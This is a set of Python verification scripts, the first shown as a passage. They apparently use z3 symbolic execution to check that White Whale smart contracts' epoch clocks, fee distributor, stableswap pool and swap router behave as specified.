                ck.oblige('C20.mgr.step.id', p, nid != eid + 1, 'Ok => id advances by exactly one')
                ck.oblige('C20.mgr.step.start', p, nstart != start + dur, 'Ok => start advances by exactly one duration')
                msgs = messages(resp_of(p))
                ck.oblige('C20.mgr.hooks.%d' % nhooks, p, len(msgs) != nhooks, 'one submessage per registered hook')
                for i, (to, inner, funds, sm) in enumerate(wasm_execs(resp_of(p))):
                    hook_ep = inner.fields[0].fields[0] if isinstance(inner, Enum) else None
                    bad = z3.Or(to.ident() != z3.Int('hook%d' % i), hook_ep.fields[0] != eid + 1,
                                hook_ep.fields[1].fields[0].fields[0] != start + dur)
                    ck.oblige('C20.mgr.hooks.payload', p, bad, 'hook %d receives the new epoch' % i)
                # permissionless: the sender does not occur in the path condition
                mentions = any('sender' in str(cnd) for cnd in p.conds)
                ck.oblige('C20.mgr.permissionless', p, mentions, 'no Ok path condition mentions the sender')
            else:
                # every other outcome must leave the stored epoch untouched (before the abort reverts anyway)
                ep = p.world.storage['epoch']
                changed = [wr for wr in p.world.writes if wr[0] == 'epoch']
                if p.kind == 'ret':
                    ck.oblige('C20.mgr.early.no_write', p, len(changed) > 0, 'Err => epoch not written')
                    ck.oblige('C20.mgr.early', p, z3.And(now >= start, now - start >= dur, eid < 2**64 - 1, start + dur < 2**64),
                              'an Err outcome only when too early or on overflow')
        ck.require(nok >= 1, 'no Ok path for create_epoch with %d hooks (vacuous)' % nhooks)
        if nok:
            okp = [p for p in paths if p.ok][0]
            ck.expect_sat('C20.mgr.cover', okp, True)
    # catching up: several creations in the SAME block (the manager is more than one duration late): every one of them advances by exactly one
    # step and notifies every hook once - a history, because state written by the first call may influence the second
    def body_catchup(it):
        c = it.ctx
        eid = c.sym('id', 64); start = c.sym('start', 64); dur = c.sym('duration', 64); gen = c.sym('genesis', 64); now = c.sym('now', 64)
        w = it.world; w.contract = 'epoch_manager'
        w.item('epoch', it.mk(EM + 'EpochV2', id=eid, start_time=TS(start)))
        w.item('config', it.mk(EM + 'Config', epoch_config=it.mk(EM + 'EpochConfig', duration=U64(dur), genesis_epoch=U64(gen))))
        w.hooks['hooks'] = [Str('hook_a'), Str('hook_b')]
        env = mk_env(it, now, height=c.sym('height', 64))
        outs = []
        for k in range(3):
            r = enter(it, 'epoch_manager', 'execute', env, mk_info('anyone'), it.mkv(EM + 'ExecuteMsg', 'CreateEpoch'))
            outs.append(r)
            if r.variant != 'Ok': break
        it.extra = dict(outs=outs)
        return outs[-1]
    eid, start, dur, now = [z3.Int(n) for n in ('id', 'start', 'duration', 'now')]
    n3 = 0
    for p in ck.explore(prog, body_catchup, 'mgr.catch_up'):
        outs = p.extra.get('outs', [])
        oks = [r for r in outs if r.variant == 'Ok']
        for k, r in enumerate(oks):
            ck.oblige('C20.mgr.catch_up.hooks.%d' % k, p, len(wasm_execs(r.fields[0])) != 2, 'creation number %d within one block still notifies every hook exactly once' % (k + 1))
        if len(oks) == 3:
            n3 += 1
            ep = p.world.storage['epoch']
            ck.oblige('C20.mgr.catch_up.three_steps', p, z3.Or(ep.fields[0] != eid + 3, ep.fields[1].fields[0].fields[0] != start + 3 * dur, now - start < 3 * dur), 'three creations in one block advance id and start by exactly three steps, and only when three durations have elapsed')
    ck.require(n3 >= 1, 'catch-up history: no path with three successful creations')
    other_messages(ck, prog)
    distributor(ck)
    try:
        import c20_collector
        c20_collector.run(ck)
    except ImportError:
        ck.outside.append('collector echo part not built')
    ck.bounds.update(hooks='0..3 registered hooks (symbolic addresses)', widths='all times/ids/durations full u64')
    return ck.finish()


def other_messages(ck, prog):
    """the epoch clock is moved by CreateEpoch only: the manager's other messages (UpdateConfig with every combination of optional fields and arbitrary
    new duration / genesis, AddHook, RemoveHook), sent by the owner, leave the stored epoch (id and start time) exactly as it was - so a
    configuration change made while an epoch runs cannot make the next creation early or move a start time backwards."""
    EMX = EM + 'ExecuteMsg'
    def mk_update(it):
        c = it.ctx
        return it.mkv(EMX, 'UpdateConfig', **opts(it, [('owner', lambda: Str('new_owner')),
                                                      ('epoch_config', lambda: it.mk(EM + 'EpochConfig', duration=U64(c.sym('new_duration', 64)), genesis_epoch=U64(c.sym('new_genesis', 64))))]))
    for label, mk in (('UpdateConfig', mk_update), ('AddHook', lambda it: it.mkv(EMX, 'AddHook', contract_addr=Str('hook_c'))), ('RemoveHook', lambda it: it.mkv(EMX, 'RemoveHook', contract_addr=Str('hook_a')))):
        def body(it, mk=mk):
            c = it.ctx
            eid = c.sym('id', 64); start = c.sym('start', 64); dur = c.sym('duration', 64); gen = c.sym('genesis', 64)
            w = it.world; w.contract = 'epoch_manager'
            w.item('epoch', it.mk(EM + 'EpochV2', id=eid, start_time=TS(start)))
            w.item('config', it.mk(EM + 'Config', epoch_config=it.mk(EM + 'EpochConfig', duration=U64(dur), genesis_epoch=U64(gen))))
            w.admin['admin'] = SOME(ADDR('owner')); w.hooks['hooks'] = [Str('hook_a'), Str('hook_b')]
            return enter(it, 'epoch_manager', 'execute', mk_env(it, c.sym('now', 64)), mk_info('owner', []), mk(it))
        n = 0
        for p in ck.explore(prog, body, 'mgr.other.' + label):
            if p.kind not in ('ret',): continue
            n += 1 if p.ok else 0
            ep = p.world.storage['epoch']
            moved = z3.Or(zint(ep.fields[0]) != z3.Int('id'), zint(ep.fields[1].fields[0].fields[0]) != z3.Int('start'))
            ck.oblige('C20.mgr.only_create_moves_the_clock.' + label, p, moved, 'the stored epoch (id, start time) is untouched by ' + label)
        ck.require(n >= 1, 'mgr.other.%s: no accepted path' % label)


def distributor(ck):
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    import lib_dist as LD
    prog = ck.program('fee_distributor', 'white_whale_std')
    for genesis in (False, True):
        def body(it, genesis=genesis):
            c = it.ctx
            st = LD.setup_dist(it, 0 if genesis else 2, 1, cursor='some')
            it.extra = dict(st=st)
            sender = ADDR(Str(None, sym=c.sym('sender')))
            return enter(it, 'fee_distributor', 'execute', mk_env(it, c.sym('now', 64)), mk_info(sender), it.mkv(LD.FX, 'NewEpoch'))
        tag = 'dist.new_epoch.' + ('genesis' if genesis else 'next')
        n = 0
        now = z3.Int('now')
        for p in ck.explore(prog, body, tag):
            ck.sample(dict(entry='fee_distributor.execute(new_epoch)', genesis=genesis, outcome=p.short()))
            st = p.extra['st']; dur, gen = st['dur'], st['gen']
            cur_id, cur_start = (0, 0) if genesis else (st['eps'][-1]['id'], st['eps'][-1]['start'])
            if p.ok:
                n += 1
                subs = messages(resp_of(p)); calls = wasm_execs(resp_of(p))
                shape = len(subs) == 1 and len(calls) == 1 and same(sname(calls[0][0]), LD.COLLECTOR) and isinstance(calls[0][1], Enum) and calls[0][1].variant == 'ForwardFees' \
                    and subs[0][0].fields[3].variant == 'Success' and subs[0][0].fields[0] == 1 and len(calls[0][2]) == 0
                ck.oblige('C20.dist.step.shape.' + tag, p, not shape, 'exactly one ForwardFees submessage to the collector, reply on success')
                if shape:
                    ep = calls[0][1].fields[0]
                    nid = ep.fields[0].fields[0]; nstart = ep.fields[1].fields[0].fields[0]
                    ck.oblige('C20.dist.step.id.' + tag, p, nid != cur_id + 1, 'id advances by exactly one')
                    ck.oblige('C20.dist.step.start.' + tag, p, nstart != (gen if genesis else cur_start + dur), 'start = previous start + duration (genesis time for the first epoch)')
                    ck.oblige('C20.dist.step.empty_ledgers.' + tag, p, len(ep.fields[2].items) + len(ep.fields[3].items) + len(ep.fields[4].items) != 0, 'the new epoch starts with empty ledgers')
                ck.oblige('C20.dist.step.not_early.' + tag, p, z3.Or(now - cur_start < dur, z3.And(genesis, now < gen)) if genesis else now - cur_start < dur, 'accepted only after the full duration (and not before genesis)')
                ck.oblige('C20.dist.step.no_write.' + tag, p, len(p.world.writes) != 0, 'the epoch is only stored by the reply, after the collector answered')
                ck.oblige('C20.dist.permissionless.' + tag, p, any('sender' in str(cnd) for cnd in p.conds), 'no Ok path condition mentions the sender')
            elif p.err:
                ck.oblige('C20.dist.early.no_write.' + tag, p, len(p.world.writes) != 0, 'a rejected attempt changes nothing')
                ck.oblige('C20.dist.early.' + tag, p, z3.And(now >= cur_start, now - cur_start >= dur, z3.Or(not genesis, now >= gen), cur_id + 1 < 2**64,
                                                            True if genesis else cur_start + dur < 2**64), 'rejected only when early, before genesis or on overflow')
        ck.require(n >= 1, tag + ': no Ok path')
    # the distributor's clock is moved by NewEpoch (+ the collector's reply) only: a configuration update, whatever it changes, writes no epoch
    def body_upd(it):
        c = it.ctx
        st = LD.setup_dist(it, 2, 1, cursor='some')
        M = lambda: Str('someone')
        msg = it.mkv(LD.FX, 'UpdateConfig', **opts(it, [('owner', M), ('bonding_contract_addr', M), ('fee_collector_addr', M), ('grace_period', lambda: U64(c.sym('new_grace', 64))),
                                                        ('distribution_asset', lambda: it.mkv('white_whale_std::pool_network::asset::AssetInfo', 'NativeToken', denom=Str('uatom'))),
                                                        ('epoch_config', lambda: it.mk(EM + 'EpochConfig', duration=U64(c.sym('new_duration', 64)), genesis_epoch=U64(c.sym('new_genesis', 64))))]))
        return enter(it, 'fee_distributor', 'execute', mk_env(it, c.sym('now', 64)), mk_info('owner', []), msg)
    n = 0
    for p in ck.explore(prog, body_upd, 'dist.update_config'):
        if p.kind != 'ret': continue
        n += 1 if p.ok else 0
        ck.oblige('C20.dist.only_new_epoch_moves_the_clock.UpdateConfig', p, any(w[0] not in ('config',) for w in p.world.writes), 'a configuration update writes nothing but the configuration (no epoch record is touched)')
    ck.require(n >= 1, 'dist.update_config: no accepted path')


if __name__ == '__main__':
    sys.exit(run_main(main))
