"""C20 — epoch clocks only move forward, one epoch at a time, never early."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import z3
from engine.harness import *

EM = 'white_whale_std::epoch_manager::epoch_manager::'
DAY = 86400 * 10**9


def main():
    ck = Check('C20')
    prog = ck.program('epoch_manager', 'white_whale_std')
    for nhooks in (0, 1, 2, 3):
        def body(it, nhooks=nhooks):
            c = it.ctx
            eid = c.sym('id', 64); start = c.sym('start', 64); dur = c.sym('duration', 64); gen = c.sym('genesis', 64)
            now = c.sym('now', 64)
            w = it.world; w.contract = 'epoch_manager'
            w.item('epoch', it.mk(EM + 'EpochV2', id=eid, start_time=TS(start)))
            w.item('config', it.mk(EM + 'Config', epoch_config=it.mk(EM + 'EpochConfig', duration=U64(dur), genesis_epoch=U64(gen))))
            w.hooks['hooks'] = [Str(None, sym=c.sym('hook%d' % i)) for i in range(nhooks)]
            sender = ADDR(Str(None, sym=c.sym('sender')))
            msg = it.mkv(EM + 'ExecuteMsg', 'CreateEpoch')
            return enter(it, 'epoch_manager', 'execute', mk_env(it, now), mk_info(sender), msg)
        paths = ck.explore(prog, body, 'mgr.create_epoch.hooks%d' % nhooks)
        eid, start, dur, now = [z3.Int(n) for n in ('id', 'start', 'duration', 'now')]
        nok = 0
        for p in paths:
            ck.sample(dict(entry='epoch_manager::contract::execute(CreateEpoch)', hooks=nhooks, outcome=p.short(), decisions=p.log))
            if p.ok:
                nok += 1
                ep = p.world.storage['epoch']
                nid = ep.fields[0]; nstart = ep.fields[1].fields[0].fields[0]
                ck.oblige('C20.mgr.step.not_early', p, z3.Not(now - start >= dur), 'Ok => now - start >= duration')
                ck.oblige('C20.mgr.step.id', p, nid != eid + 1, 'Ok => id advances by exactly one')
                ck.oblige('C20.mgr.step.start', p, nstart != start + dur, 'Ok => start advances by exactly one duration')
                msgs = messages(resp_of(p))
                ck.oblige('C20.mgr.hooks.%d' % nhooks, p, len(msgs) != nhooks, 'one submessage per registered hook')
                for i, (to, inner, funds, sm) in enumerate(wasm_execs(resp_of(p))):
                    hook_ep = inner.fields[0].fields[0] if isinstance(inner, Enum) else None
                    bad = z3.Or(to.ident() != z3.Int('hook%d' % i), hook_ep.fields[0] != eid + 1,
                                hook_ep.fields[1].fields[0].fields[0] != start + dur)
                    ck.oblige('C20.mgr.hooks.payload', p, bad, 'hook %d receives the new epoch' % i)
                # permissionless: the sender does not occur in the path condition
                mentions = any('sender' in str(cnd) for cnd in p.conds)
                ck.oblige('C20.mgr.permissionless', p, mentions, 'no Ok path condition mentions the sender')
            else:
                # every other outcome must leave the stored epoch untouched (before the abort reverts anyway)
                ep = p.world.storage['epoch']
                changed = [wr for wr in p.world.writes if wr[0] == 'epoch']
                if p.kind == 'ret':
                    ck.oblige('C20.mgr.early.no_write', p, len(changed) > 0, 'Err => epoch not written')
                    ck.oblige('C20.mgr.early', p, z3.And(now >= start, now - start >= dur, eid < 2**64 - 1, start + dur < 2**64),
                              'an Err outcome only when too early or on overflow')
        ck.require(nok >= 1, 'no Ok path for create_epoch with %d hooks (vacuous)' % nhooks)
        if nok:
            okp = [p for p in paths if p.ok][0]
            ck.expect_sat('C20.mgr.cover', okp, True)
    ck.bounds.update(hooks='0..3 registered hooks (symbolic addresses)', widths='all times/ids/durations full u64')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(main())
