"""Symbolic world builder and explorers for the three-asset stableswap pool (stableswap_3pool)."""
import z3
from engine.harness import *

PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
AIR = PN + 'asset::AssetInfoRaw'
TM = PN + 'trio::'
TRIO = 'trio_contract'
TLP = 'trio_lp_token'
TNAMES = {'native': ['uusdc', 'uusdt', 'udai'], 'cw20': ['tok_usdc', 'tok_usdt', 'tok_dai']}
T3 = 'stableswap_3pool'
TXM = TM + 'ExecuteMsg'
SS = 'stableswap_3pool::stableswap_math::curve::StableSwap'


def tname(kinds, i): return TNAMES[kinds[i]][i]
def tinfo(it, kind, i): return it.mkv(AI, 'NativeToken', denom=Str(TNAMES['native'][i])) if kind == 'native' else it.mkv(AI, 'Token', contract_addr=Str(TNAMES['cw20'][i]))
def tinfo_raw(it, kind, i):
    if kind == 'native': return it.mkv(AIR, 'NativeToken', denom=Str(TNAMES['native'][i]))
    return it.mkv(AIR, 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(TNAMES['cw20'][i])]))
def tasset(it, kind, i, amount): return it.mk(PN + 'asset::Asset', info=tinfo(it, kind, i), amount=U128(amount))
def tfee(it, t): return it.mk('white_whale_std::fee::Fee', share=DEC(t))


def setup_trio(it, kinds=('native', 'native', 'cw20'), toggles=(True, True, True), amps=None):
    c = it.ctx; w = it.world; w.contract = TRIO
    b = [c.sym('b%d' % i, 128) for i in range(3)]; f = [c.sym('f%d' % i, 128) for i in range(3)]
    S = c.sym('S', 128)
    fp, fs, fb = c.sym('fee_protocol', 128), c.sym('fee_swap', 128), c.sym('fee_burn', 128)
    w.item('trio_info', it.mk(PN + 'asset::TrioInfoRaw', asset_infos=Agg('array', [tinfo_raw(it, kinds[i], i) for i in range(3)]),
                              contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(TRIO)]),
                              liquidity_token=it.mkv(AIR, 'Token', contract_addr=Agg('cosmwasm_std::CanonicalAddr', [Str(TLP)])), asset_decimals=Agg('array', [6, 6, 6])))
    if amps is None: amps = (c.sym('initial_amp', 64), c.sym('future_amp', 64), c.sym('initial_amp_block', 64), c.sym('future_amp_block', 64))
    w.item('config', it.mk(TM + 'Config', owner=ADDR('owner'), fee_collector_addr=ADDR('collector'),
                           pool_fees=it.mk(TM + 'PoolFee', protocol_fee=tfee(it, fp), swap_fee=tfee(it, fs), burn_fee=tfee(it, fb)),
                           feature_toggle=it.mk(TM + 'FeatureToggle', withdrawals_enabled=toggles[0], deposits_enabled=toggles[1], swaps_enabled=toggles[2]),
                           initial_amp=amps[0], future_amp=amps[1], initial_amp_block=amps[2], future_amp_block=amps[3]))
    at = [c.sym('at%d' % i, 128) for i in range(3)]; ab = [c.sym('ab%d' % i, 128) for i in range(3)]
    for ns, vals in (('collected_protocol_fees', f), ('all_time_collected_protocol_fees', at), ('all_time_burned_fees', ab)):
        w.item(ns, VecV([tasset(it, kinds[i], i, vals[i]) for i in range(3)]))
    for i, k in enumerate(kinds):
        if k == 'native': w.bank.append((Str(TRIO), Str(TNAMES['native'][i]), b[i]))
        else: w.cw20.append((Str(TNAMES['cw20'][i]), Str(TRIO), b[i]))
    w.cw20_info[TLP] = dict(total_supply=S, decimals=6)
    for x in at + ab: c.assume(x < 2**127)
    c.assume(fp < E18); c.assume(fs < E18); c.assume(fb < E18); c.assume(fp + fs + fb < E18)
    return dict(b=b, f=f, S=S, fees=(fp, fs, fb), at=at, ab=ab, amps=amps, kinds=kinds)


# ---- stubs for the Newton kernels: uninterpreted functions of their inputs (equal inputs -> equal outputs) ----------------
D3 = z3.Function('D3', *([z3.IntSort()] * 8), z3.IntSort())
Y3 = z3.Function('Y3', *([z3.IntSort()] * 8), z3.IntSort())


def _record_inv(it, inv):
    if getattr(it, 'extra', None) is None: it.extra = {}
    it.extra.setdefault('ss_invs', []).append(inv)


def _amps(inv):
    inv = deref(inv)
    return [zint(x) for x in inv.fields]       # initial_amp, target_amp, current_ts, start_ramp_ts, stop_ramp_ts


def stub_compute_d(it, a, c):
    inv = _amps(a[0]); xs = [zint(deref(v).fields[0]) for v in a[1:4]]
    _record_inv(it, inv)
    d = D3(*inv, *xs)
    it.ctx.pc += [d >= 0, d < 2**256]
    if it.ctx.branch(xs[0] + xs[1] + xs[2] == 0, 'd.zero'): return SOME(U256(0))
    return SOME(U256(d))


def stub_compute_y_raw(it, a, c):
    inv = _amps(a[0]); x, ns, d = zint(deref(a[1]).fields[0]), zint(deref(a[2]).fields[0]), zint(deref(a[3]).fields[0])
    _record_inv(it, inv)
    y = Y3(*inv[:3], inv[3] + inv[4] * 0, x, ns, d, inv[4])
    it.ctx.pc += [y >= 0, y < 2**256]
    return SOME(U256(y))


KERNEL_STUBS = {SS + '::compute_d': stub_compute_d, SS + '::compute_y_raw': stub_compute_y_raw}


def amp_at(cfg, h):
    """the documented linear interpolation between the stored ramp end points (C04.amp.linear) at block height h"""
    ia, fa, ib, fb = cfg['initial_amp'], cfg['future_amp'], cfg['initial_amp_block'], cfg['future_amp_block']
    if h >= fb or fb <= ib or h < ib: return fa if h >= fb else ia
    if fa >= ia: return ia + (fa - ia) * (h - ib) // (fb - ib)
    return ia - (ia - fa) * (h - ib) // (fb - ib)


def swap_differs_from_settled_twin(reals, scs):
    """native confirmation of a curve-parameter counterexample (found with the Newton kernels abstracted): the real operation on the candidate state, whose
    ramp is in progress, is compared with the SAME real operation on a twin state whose ramp is settled at the amplification in force at this block height
    (initial = target = interpolated value). The two must emit the same messages; a difference shows on the real contract that the operation was not priced
    with the amplification in force at the current block height."""
    import copy
    from engine import replay
    real = reals[-1]['result']; sc = scs[-1]
    if real.get('outcome') != 'ok': return False
    sc2 = copy.deepcopy(sc)
    for kv in sc2['storage']:
        if bytes.fromhex(kv[0]).decode('latin1') == 'config':
            cfg = kv[1]; a = amp_at(cfg, sc['env']['height'])
            cfg['initial_amp'] = a; cfg['future_amp'] = a
    twin = replay.run_scenarios([sc2])[0]['result']
    if twin.get('outcome') != 'ok': return True
    return twin['response']['messages'] != real['response']['messages']


def curve_params_obligation(ck, p, tag, pid='C04'):
    """every call of the (stubbed) Newton kernels on this path was made on a calculator built from the STORED ramp and the CURRENT BLOCK HEIGHT"""
    st = p.extra['st']; want = [zint(x) for x in (st['amps'][0], st['amps'][1], z3.Int('height'), st['amps'][2], st['amps'][3])]
    invs = p.extra.get('ss_invs', [])
    if not invs: return
    bad = z3.Or(*[w != g for inv in invs for w, g in zip(want, inv)])
    # candidate for the native confirmation: a swap 20% into a ramp 10 -> 1000 on an unbalanced pool, at a block time far from the block height
    nice = [z3.Int('b0') == 3 * 10 ** 12, z3.Int('b1') == 10 ** 12, z3.Int('b2') == 2 * 10 ** 12] + [z3.Int('f%d' % i) == 10 ** 6 for i in range(3)] + \
           [z3.Int('offer') == 10 ** 11, z3.Int('initial_amp') == 10, z3.Int('future_amp') == 1000, z3.Int('initial_amp_block') == 1000, z3.Int('future_amp_block') == 21000, z3.Int('height') == 5000,
            z3.Int('fee_protocol') == 10 ** 15, z3.Int('fee_swap') == 10 ** 15, z3.Int('fee_burn') == 0]
    ck.oblige('%s.curve_at_height.%s' % (pid, tag), p, bad, 'the curve is evaluated with the stored ramp end points and the current block HEIGHT (the clock the ramp is defined on), in every kernel call of this operation',
              native_pred=swap_differs_from_settled_twin, nice=nice)


def trio_inv(c, st, attached=(0, 0, 0)):
    for i in range(3): c.assume(st['f'][i] + attached[i] <= st['b'][i])


def tswap_body(kinds, oi, ai, toggles=(True, True, True), belief=False):
    def body(it):
        c = it.ctx
        st = setup_trio(it, kinds, toggles)
        off = c.sym('offer', 128)
        att = [0, 0, 0]; att[oi] = off
        trio_inv(c, st, att)
        ms = SOME(DEC(c.sym('max_spread', 128))); bp = SOME(DEC(c.sym('belief_price', 128))) if belief else NONE()
        env = mk_env(it, 10**18, height=c.sym('height', 64))
        if kinds[oi] == 'native':
            msg = it.mkv(TXM, 'Swap', offer_asset=tasset(it, kinds[oi], oi, off), ask_asset=tinfo(it, kinds[ai], ai), belief_price=bp, max_spread=ms, to=SOME(Str('recv')))
            inf = mk_info('trader', [COIN(tname(kinds, oi), off)])
        else:
            hook = it.mkv(TM + 'Cw20HookMsg', 'Swap', ask_asset=tinfo(it, kinds[ai], ai), belief_price=bp, max_spread=ms, to=SOME(Str('recv')))
            msg = it.mkv(TXM, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('trader'), amount=U128(off), msg=BIN(hook)))
            inf = mk_info(tname(kinds, oi), [])
        it.extra = dict(st=st, offer=off, oi=oi, ai=ai)
        return enter(it, T3, 'execute', env, inf, msg)
    return body


def tprovide_body(kinds, first=False, toggles=(True, True, True), slippage=False):
    def body(it):
        c = it.ctx
        st = setup_trio(it, kinds, toggles)
        d = [c.sym('d%d' % i, 128) for i in range(3)]
        trio_inv(c, st, [d[i] if kinds[i] == 'native' else 0 for i in range(3)])
        if first: c.assume(st['S'] == 0)
        else: c.assume(st['S'] >= 1)
        assets = [tasset(it, kinds[i], i, d[i]) for i in (2, 0, 1)]       # any order
        sl = SOME(DEC(c.sym('slippage', 128))) if slippage else NONE()
        msg = it.mkv(TXM, 'ProvideLiquidity', assets=Agg('array', assets), slippage_tolerance=sl, receiver=SOME(Str('recv')))
        funds = [COIN(tname(kinds, i), d[i]) for i in range(3) if kinds[i] == 'native']
        it.extra = dict(st=st, d=d)
        return enter(it, T3, 'execute', mk_env(it, 10**18, height=c.sym('height', 64)), mk_info('provider', funds), msg)
    return body


def twithdraw_body(kinds, toggles=(True, True, True)):
    def body(it):
        c = it.ctx
        st = setup_trio(it, kinds, toggles)
        amt = c.sym('amount', 128)
        trio_inv(c, st); c.assume(amt <= st['S'])
        hook = it.mkv(TM + 'Cw20HookMsg', 'WithdrawLiquidity')
        msg = it.mkv(TXM, 'Receive', it.mk('cw20::Cw20ReceiveMsg', sender=Str('holder'), amount=U128(amt), msg=BIN(hook)))
        it.extra = dict(st=st, amount=amt)
        return enter(it, T3, 'execute', mk_env(it, 10**18, height=c.sym('height', 64)), mk_info(TLP, []), msg)
    return body


def tcollect_body(kinds):
    def body(it):
        st = setup_trio(it, kinds); trio_inv(it.ctx, st)
        it.extra = dict(st=st)
        return enter(it, T3, 'execute', mk_env(it, 10**18, height=it.ctx.sym('height', 64)), mk_info('anyone', []), it.mkv(TXM, 'CollectProtocolFees'))
    return body


def tledger_after(p, name): return [a.fields[1].fields[0] for a in p.world.storage[name].items]
