"""C14 part: the router.  (a) SimulateSwapOperations (and ReverseSimulateSwapOperations, from the last hop backwards) is exactly the chain of the registered pairs' own Simulation answers (each hop offered the
previous hop's quoted return); (b) an executed hop (ExecuteSwapOperation, self-call) sends the registered pair of (offer, ask) a Swap of the
router's whole balance of the offer asset, with the hop's receiver and max_spread and no belief price.  Together with the pair-level
obligations (quote = execution) this gives 'the receiver gets what the multi-hop simulation said' under the assumption, stated in the evidence,
that the router holds no balance of a hop asset before the operation (the router never keeps funds: C15/C19) - a stray balance is swapped along."""
import z3
from engine.harness import *
import c15 as C15

PN = C15.PN; RX = C15.RX; RT = C15.RT; ROUTER = C15.ROUTER; CHAIN = C15.CHAIN
FQ = PN + 'factory::QueryMsg'; PQ = PN + 'pair::QueryMsg'


def pair_name(k): return 'pair_%d' % k


def register(it, k, answer=True):
    a, b = C15.ainfo(it, k), C15.ainfo(it, k + 1)
    info = it.mk(PN + 'asset::PairInfo', asset_infos=Agg('array', [a, b]), contract_addr=Str(pair_name(k)), liquidity_token=it.mkv(PN + 'asset::AssetInfo', 'Token', contract_addr=Str('lp_%d' % k)),
                 asset_decimals=Agg('array', [6, 6]), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'))
    it.world.smart_table.append(('factory_contract', it.mkv(FQ, 'Pair', asset_infos=Agg('array', [C15.ainfo(it, k), C15.ainfo(it, k + 1)])), info if answer else Opaque('query_error')))


def simulation(ck, progr):
    RQ = PN + 'router::QueryMsg'
    for nops in (1, 2, 3):
        def body(it, nops=nops):
            c = it.ctx; C15.router_world(it)
            amt = c.sym('offer', 128); cur = amt
            rets = []
            for k in range(nops):
                register(it, k)
                r = c.sym('ret%d' % k, 128); rets.append(r)
                sim = it.mk(PN + 'pair::SimulationResponse', return_amount=U128(r), spread_amount=U128(c.sym('sp%d' % k, 128)), swap_fee_amount=U128(0), protocol_fee_amount=U128(0), burn_fee_amount=U128(0))
                it.world.smart_table.append((pair_name(k), it.mkv(PQ, 'Simulation', offer_asset=it.mk(PN + 'asset::Asset', info=C15.ainfo(it, k), amount=U128(cur))), sim))
                cur = r
            ops = [it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=C15.ainfo(it, k), ask_asset_info=C15.ainfo(it, k + 1)) for k in range(nops)]
            it.extra = dict(rets=rets)
            return enter(it, RT, 'query', mk_env(it, 10**18), None, it.mkv(RQ, 'SimulateSwapOperations', offer_amount=U128(amt), operations=VecV(ops)))
        n = 0
        for p in ck.explore(progr, body, 'router.simulate.ops%d' % nops):
            ck.sample(dict(entry='router.query(SimulateSwapOperations)', hops=nops, outcome=p.short()))
            if not p.ok: continue
            n += 1
            got = p.value.fields[0].fields[0].payload.fields[0].fields[0]
            ck.oblige('C14.router.sim.chain.ops%d' % nops, p, got != p.extra['rets'][-1], 'the multi-hop quote is the last pair\'s quoted return, each pair having been offered the previous quoted return')
        ck.require(n >= 1, 'router simulate (%d hops): no Ok path' % nops)


def reverse_simulation(ck, progr):
    """ReverseSimulateSwapOperations = the registered pairs' own ReverseSimulation answers chained from the LAST hop back to the first.  Each pair
    answers for one free symbolic ask amount q_k with a free offer amount o_k; the lookups put `queried amount == q_k` on the path, so the
    obligation can state the chain: q_last == asked, q_k == o_{k+1}, result == o_0."""
    RQ = PN + 'router::QueryMsg'
    for nops in (1, 2, 3):
        def body(it, nops=nops):
            c = it.ctx; C15.router_world(it)
            ask = c.sym('ask', 128)
            qs = [c.sym('rq%d' % k, 128) for k in range(nops)]; os_ = [c.sym('ro%d' % k, 128) for k in range(nops)]
            for k in range(nops):
                register(it, k)
                rs = it.mk(PN + 'pair::ReverseSimulationResponse', offer_amount=U128(os_[k]), spread_amount=U128(c.sym('rsp%d' % k, 128)), swap_fee_amount=U128(0), protocol_fee_amount=U128(0), burn_fee_amount=U128(0))
                it.world.smart_table.append((pair_name(k), it.mkv(PQ, 'ReverseSimulation', ask_asset=it.mk(PN + 'asset::Asset', info=C15.ainfo(it, k + 1), amount=U128(qs[k]))), rs))
            # a pair asked about any other amount does not answer (the query fails, and with it the router's query): as the native runner's querier does
            it.world.smart_default = lambda it_, addr, msg, call: ERR(Opaque('StdError::GenericErr', Str('Querier system error')))
            ops = [it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=C15.ainfo(it, k), ask_asset_info=C15.ainfo(it, k + 1)) for k in range(nops)]
            it.extra = dict(qs=qs, os=os_, ask=ask)
            return enter(it, RT, 'query', mk_env(it, 10**18), None, it.mkv(RQ, 'ReverseSimulateSwapOperations', ask_amount=U128(ask), operations=VecV(ops)))
        n = 0
        for p in ck.explore(progr, body, 'router.reverse_simulate.ops%d' % nops):
            ck.sample(dict(entry='router.query(ReverseSimulateSwapOperations)', hops=nops, outcome=p.short()))
            if not p.ok: continue
            n += 1
            got = p.value.fields[0].fields[0].payload.fields[0].fields[0]
            qs, os_, ask = p.extra['qs'], p.extra['os'], p.extra['ask']
            chain = [qs[nops - 1] == ask] + [qs[k] == os_[k + 1] for k in range(nops - 1)] + [zint(got) == os_[0]]
            ck.oblige('C14.router.revsim.chain.ops%d' % nops, p, z3.Not(z3.And(*chain)),
                      'the multi-hop reverse quote asks the last pair for the wanted amount, each earlier pair for the offer the next one needs, and reports the first pair\'s offer')
        ck.require(n >= 1, 'router reverse simulate (%d hops): no Ok path' % nops)


def hop_execution(ck, progr):
    for k in (0, 1):            # offer native / offer cw20
        for last in (True, False):
            def body(it, k=k, last=last):
                c = it.ctx; C15.router_world(it); register(it, k)
                kind, name = CHAIN[k]
                bal = c.sym('router_balance', 128)
                if kind == 'native': it.world.bank.append((Str(ROUTER), Str(name), bal))
                else: it.world.cw20.append((Str(name), Str(ROUTER), bal))
                op = it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=C15.ainfo(it, k), ask_asset_info=C15.ainfo(it, k + 1))
                msg = it.mkv(RX, 'ExecuteSwapOperation', operation=op, to=SOME(Str('recv')) if last else NONE(), max_spread=SOME(DEC(c.sym('max_spread', 128))))
                return enter(it, RT, 'execute', mk_env(it, 10**18), mk_info(ROUTER, []), msg)
            tag = 'router.hop.%s.%s' % (CHAIN[k][0], 'last' if last else 'mid')
            n = 0
            for p in ck.explore(progr, body, tag):
